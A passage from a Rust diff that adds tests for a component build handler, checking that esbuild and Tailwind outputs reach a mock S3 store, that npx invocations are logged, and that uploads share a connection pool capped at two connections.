+            store.put_body("esbuild-default/index.js").unwrap(),
+            b"console.log(1)"
+        );
+        assert_eq!(
+            store.put_body("esbuild-default/index.css").unwrap(),
+            b".p{}"
         );
+        assert!(store.find_put("esbuild-default/index.html").is_some());
+
+        let invocations = std::fs::read_to_string(root.path().join("npx.log")).unwrap();
+        assert!(invocations
+            .lines()
+            .any(|line| line.starts_with("--yes esbuild ")));
+        assert!(invocations
+            .lines()
+            .any(|line| line.starts_with("--yes @tailwindcss/cli -i ")));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_uploads_go_through_the_cold_start_pool() {
+        let _serial = HANDLER_BUILDS.lock().await;
+        let root = esbuild_task_root();
+        let config = esbuild_config(root.path(), &[("S3_MAX_CONNECTIONS", "2")]);
+        let s3 = SharedStore::new(MemoryConnector::default());
+
+        for component_id in ["pooled-first", "pooled-second"] {
+            let body =
+                json!({ "component_id": component_id, "code": "export default () => null;" });
+            let response = build_component(
+                Request::new(Body::from(body.to_string())),
+                &Progress::default(),
+                &config,
+                &s3,
+            )
+            .await
+            .unwrap();
+            assert_eq!(response.status(), 200);
+        }
+
+        assert_eq!(s3.connector.connects(), 1);
+        let pool = s3.get(&config).await;
+        assert_eq!(pool.max_connections(), 2);
+        assert_eq!(pool.available(), 2);
+        assert!(pool.inner().find_put("pooled-first/index.js").is_some());
+        assert!(pool.inner().find_put("pooled-second/index.js").is_some());
     }
 }